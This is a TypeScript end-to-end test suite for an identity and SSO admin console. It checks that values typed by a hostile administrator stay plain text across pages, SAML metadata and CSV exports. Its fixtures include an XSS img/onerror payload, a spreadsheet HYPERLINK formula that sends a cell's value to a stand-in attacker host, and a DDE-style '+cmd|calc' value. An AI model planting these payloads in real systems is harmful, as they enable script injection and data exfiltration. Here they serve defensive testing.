import { readFile } from 'node:fs/promises';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { escapeHtml } from '../../server/contract/text.ts';
import { createSigningPair, salesforceMetadata } from '../helpers/service-provider.ts';
import { beginAdding, openApplication, pasteMetadata, untilPreviewed } from './applications.ts';
import { aLaptop } from './authenticator.ts';
import { confirm, goTo, grace, openConsole, section, untilSettled } from './console.ts';
import { inspectConsole } from './inspect.ts';
import { arriveAtLogin, signIn } from './login.ts';
import { type EmptyStage, openEmptyStage } from './stage.ts';
import type { Visit } from './visit.ts';

const gracesLaptop = aLaptop();
const victimsLaptop = aLaptop();

/** Once a page takes it for more than text, there is an element of this id, a request, or a dialog. */
const MARKUP = `"><img id=injected src=/injected.png onerror=alert(1)>'`;
/** The same where no white space may be. */
const UNSPACED = MARKUP.replaceAll(' ', '/');
/** Once a spreadsheet takes it for more than text, it asks a stranger. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';

/** Where the names of things are to be found again. */
const MARKED = 'onerror=alert(1)';

let stage: EmptyStage;
/** Ids of what the hostile administrator has made. */
const made = { person: '', group: '', application: '' };
beforeAll(async () => {
  stage = await openEmptyStage();
  await stage.setUp(grace, gracesLaptop);
});
afterAll(() => stage.close());

/** At the console; a dialog of the browser's own fails the test. */
async function open(path = '/admin'): Promise<Visit> {
  const visit = await openConsole(stage, gracesLaptop, path);
  expectNoDialog(visit.page);
  return visit;
}

function expectNoDialog(page: Page): void {
  const said: string[] = [];
  page.on('dialog', (dialog) => {
    said.push(dialog.message());
    void dialog.dismiss();
  });
  onTestFinished(() => expect(said).toEqual([]));
}

/** What the page shows of it is text. Whether it has asked anybody for anything, the watch says. */
async function expectText(page: Page, within = 'main'): Promise<void> {
  await expect.poll(() => page.locator(within).last().textContent(), { message: page.url() }).toContain(MARKED);
  expect(await page.locator('#injected').count(), page.url()).toBe(0);
}

/** What the page itself would send; `request` is such as `POST /api/people`. @throws Error when it is refused */
function send<Answer>(page: Page, request: string, body: object): Promise<Answer> {
  return page.evaluate(
    async ([sent = '', address = '', json = '']) => {
      const headers = { 'content-type': 'application/json' };
      const answer = await fetch(address, { method: sent, headers, body: json });
      if (!answer.ok) throw new Error(`${answer.status} ${await answer.text()}`);
      return answer.status === 204 ? null : answer.json();
    },
    [...request.split(' '), JSON.stringify(body)],
  );
}

/** The cells of a CSV; none of them is one that a spreadsheet would calculate. */
function readInertCells(csv: string): string[] {
  const rows: string[][] = parse(csv, { bom: true, relax_column_count: true });
  const cells = rows.flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  return cells;
}

describe('what a hostile administrator types', () => {
  test('is taken as it is: people, groups, a round of invitations, a token', async () => {
    const { page } = await open('/admin/people');
    await page.getByRole('button', { name: 'Add a person' }).click();
    const dialog = page.getByRole('dialog', { name: 'Add a person' });
    await dialog.getByLabel('Name').fill(MARKUP);
    await dialog.getByLabel('E-mail address').fill(`${UNSPACED}@example.com`);
    await dialog.getByLabel('Federation ID').fill(MARKUP);
    await dialog.getByRole('button', { name: 'Add', exact: true }).click();
    await untilSettled(page, MARKUP);
    await expectText(page);
    await expectText(page, 'status-line');
    made.person = new URL(page.url()).pathname.split('/').at(-1) ?? '';
    await send(page, 'POST /api/people', {
      name: FORMULA,
      email: '+cmd|calc@example.com',
      federationId: '@SUM(1+1)',
      role: 'user',
    });
    const group = await send<{ id: string }>(page, 'POST /api/groups', { name: MARKUP });
    made.group = group.id;
    await send(page, `POST /api/groups/${group.id}/members`, { userIds: [made.person] });
    await send(page, 'POST /api/tokens', { name: MARKUP, role: 'auditor', days: 1 });
  });

  test('is text in an application and its metadata, refused or not', async () => {
    const { page, watch } = await open();
    const inAWeek = new Date(Date.now() + 6 * 24 * 3600_000);
    const { certificate } = await createSigningPair({ commonName: MARKUP, notAfter: inAWeek });
    const entityId = escapeHtml(`urn:example:${UNSPACED}`);
    const metadata = salesforceMetadata(certificate, { entityId, acsUrl: 'https://app.example.com/acs' }).replace(
      '<md:NameIDFormat>',
      `<md:NameIDFormat>${escapeHtml(MARKUP)}</md:NameIDFormat>$&`,
    );
    watch.expectedStatuses.push(400);
    await beginAdding(page, 'Another SAML application', 'In a text that I paste');
    await pasteMetadata(page, metadata.replace('https://app.example.com/acs', escapeHtml(MARKUP)));
    await page.getByText('should be a plain https address').first().waitFor();
    await expectText(page);

    await pasteMetadata(page, metadata);
    const preview = await untilPreviewed(page);
    await expectText(page);
    await inspectConsole(page, 'hostile-preview');
    await preview.getByLabel('Name').fill(MARKUP);
    await preview.getByRole('button', { name: 'Add it' }).click();
    await untilSettled(page, MARKUP);
    made.application = new URL(page.url()).pathname.split('/').at(-1) ?? '';

    const path = `/api/service-providers/${made.application}`;
    const { updatedAt } = await page.evaluate(async (address) => (await fetch(address)).json(), path);
    const value = { source: 'fixed', text: MARKUP, lowerCase: false, prefix: '', suffix: '' };
    const attributes = [{ name: MARKUP, value }];
    const stored = await send<{ updatedAt: string }>(page, `PATCH ${path}`, { updatedAt, settings: { attributes } });
    const access = { updatedAt: stored.updatedAt, access: 'groups', groupIds: [made.group] };
    await send(page, `PUT ${path}/access`, access);
  });

  test('is text in what is made of it: links, a merge file, the page of the invited person', async () => {
    const { page } = await open();
    await goTo(page, `/admin/invitations/new?group=${made.group}`, 'Invite people');
    await page.getByLabel('Name of this round').fill(MARKUP);
    await page.getByRole('radio', { name: /^Everybody without a passkey$/ }).check();
    await page.getByRole('button', { name: 'Make the links' }).click();
    await confirm(page, 'Make the links');
    const links = section(page, 'The links');
    await links.waitFor();
    await expectText(page);
    await inspectConsole(page, 'hostile-links');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      links.getByRole('button', { name: 'Download for mail merge' }).click(),
    ]);
    const cells = readInertCells(await readFile(await download.path(), 'utf8'));
    expect(cells).toEqual(expect.arrayContaining([`'${FORMULA}`, MARKUP]));

    const link = cells[cells.indexOf(MARKUP) + 1] ?? '';
    const victim = await stage.visit(victimsLaptop);
    expectNoDialog(victim.page);
    await victim.device.setPresent(true);
    await victim.page.goto(link);
    await victim.page.getByText('For this account').waitFor();
    await expectText(victim.page);
    await victim.page.getByRole('button', { name: 'Create a passkey' }).click();
    await victim.page.getByRole('heading', { name: 'Your passkey is ready' }).waitFor();
    await victim.device.setPresent(false);
    await arriveAtLogin(victim, `${stage.server.url}/account`);
    await signIn(victim);
    await victim.page.getByRole('heading', { name: 'Your account', exact: true }).waitFor();
    await expectText(victim.page);
  });

  test('is text in the preview of an assertion, and in a test sign-in', async () => {
    const visit = await open();
    const { page } = visit;
    await openApplication(page, MARKUP, 'Settings');
    const trial = section(page, 'What would be sent');
    await trial.getByRole('combobox').fill('<img');
    await trial.getByRole('option').first().click();
    await trial.locator('pre').getByText(MARKED).first().waitFor();
    await expectText(page);
    await send(page, `POST /api/groups/${made.group}/members`, { userIds: [await ownId(page)] });
    await arriveAtLogin(visit, `${stage.server.url}/admin/test-sign-in/${made.application}`);
    await expectText(page);
    await signIn(visit);
    await untilSettled(page, `Test of ${MARKUP}`);
    await page.getByText('It works: the answer passed every check.').waitFor();
    await expectText(page);
  });
});

describe('every page that shows it shows text', () => {
  test('of the console', async () => {
    const { person, group, application } = made;
    const { page } = await open();
    for (const path of [
      '',
      '/people',
      `/people/${person}`,
      '/groups',
      `/groups/${group}`,
      '/invitations',
      '/applications',
      `/applications/${application}`,
      `/applications/${application}?tab=settings`,
      `/applications/${application}?tab=access`,
      '/test-sign-in',
      '/audit',
      '/tokens',
    ]) {
      await goTo(page, `/admin${path}`);
      await expectText(page);
      if (path === '/people') await inspectConsole(page, 'hostile-people');
      if (path.endsWith(application)) await inspectConsole(page, 'hostile-application');
    }
  });

  test('dialogs and lists to pick from', async () => {
    const { page } = await open();
    await goTo(page, `/admin/people/${made.person}`);
    for (const name of ['Change', 'Switch off', 'Delete']) {
      await page.getByRole('button', { name, exact: true }).click();
      await expectText(page, 'dialog[open]');
      if (name === 'Delete') await inspectConsole(page, 'hostile-delete');
      await page.keyboard.press('Escape');
    }
    await goTo(page, `/admin/groups/${made.group}`);
    await page.getByRole('combobox').fill('HYPER');
    await page.getByRole('option', { name: FORMULA }).waitFor();
    await page.getByRole('combobox').fill('<img');
    await page.getByRole('option').first().waitFor();
    await expectText(page, '[role=listbox]');
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Delete the group' }).click();
    await expectText(page, 'dialog[open]');
    await page.keyboard.press('Escape');
    await goTo(page, '/admin/invitations');
    await page.getByRole('link', { name: MARKUP }).click();
    await untilSettled(page, MARKUP);
    await expectText(page);
  });

  test('the audit log with its filters, its events and its exports, and the export of people', async () => {
    const { page } = await open();
    await goTo(page, `/admin/audit?person=${made.person}`);
    await expectText(page);
    const links = page.getByRole('rowheader').getByRole('link');
    await links.first().click();
    await untilSettled(page);
    await expectText(page);
    const exported = async (path: string) => {
      const answer = await page.request.get(`${stage.server.url}${path}`);
      expect(answer.headers()['content-type']).toMatch(/^text\/csv/);
      expect(answer.headers()['content-disposition']).toMatch(/^attachment/);
      return readInertCells(await answer.text());
    };
    const people = await exported('/api/people/export');
    expect(people).toEqual(expect.arrayContaining([MARKUP, `'${FORMULA}`, "'@SUM(1+1)", "'+cmd|calc@example.com"]));
    await exported('/api/audit/export?format=csv');
  });
});

/** Of whoever is signed in. */
function ownId(page: Page): Promise<string> {
  return page.evaluate(async (email) => {
    const { items } = await (await fetch(`/api/people?search=${encodeURIComponent(email)}`)).json();
    return items[0].id;
  }, grace.email);
}
